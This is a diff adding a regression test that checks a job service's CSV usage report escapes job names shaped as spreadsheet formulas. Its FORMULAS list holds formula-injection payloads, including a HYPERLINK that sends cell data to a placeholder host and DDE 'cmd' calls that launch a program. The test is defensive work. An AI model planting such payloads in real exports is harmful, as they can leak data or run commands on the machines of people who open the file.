@@ -13,6 +13,7 @@ from typing import Any
 import pytest
 from fastapi.testclient import TestClient
 
+from gateway.db.base import utcnow
 from gateway.db.engine import transaction
 from gateway.runtime import Runtime
 from tests.conftest import MakeUser, TestUser
@@ -115,6 +116,41 @@ def test_usage_lists_my_jobs_like_sacct(client: TestClient, setup: Setup) -> Non
     project = client.get(REPORTS[4], params={"project": setup.world.astro},
                          headers=setup.pi.headers).json()["jobs"]
     assert {j["job_id"] for j in project} == {jobs[k] for k in ("j1", "j2", "j3", "j4")}
+
+
+FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_a_members_job_named_as_a_formula_reaches_the_pis_csv_as_text(
+        client: TestClient, runtime: Runtime, setup: Setup) -> None:
+    # Issue 25 item 4: the name appeared verbatim in the PI's CSV, a live formula.
+    runtime.clock = utcnow  # the jobs are submitted now, after the fixtures' history
+    for name in FORMULAS:
+        r = client.post("/api/v1/jobs", json={"name": name, "executable": "/bin/true",
+                                              "project": setup.world.astro},
+                        headers=setup.member.headers)
+        assert r.status_code == 202, r.text
+    params = {"project": setup.world.astro, "since": DAY0.isoformat()}
+    as_csv = client.get(REPORTS[4], params={**params, "format": "csv"},
+                        headers=setup.pi.headers)
+    rows = _csv(as_csv.text)
+    assert sorted(row["name"] for row in rows if row["name"].startswith("'")) == sorted(
+        "'" + name for name in FORMULAS)
+    assert not [cell for row in rows for cell in row.values()
+                if cell.startswith(("=", "+", "@", "\t", "\r"))
+                or (cell.startswith("-") and not _number(cell))]
+    # The JSON document keeps every name as it was given.
+    as_json = client.get(REPORTS[4], params=params, headers=setup.pi.headers).json()
+    assert set(FORMULAS) <= {job["name"] for job in as_json["jobs"]}
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
 
 
 @pytest.mark.parametrize("path", REPORTS)
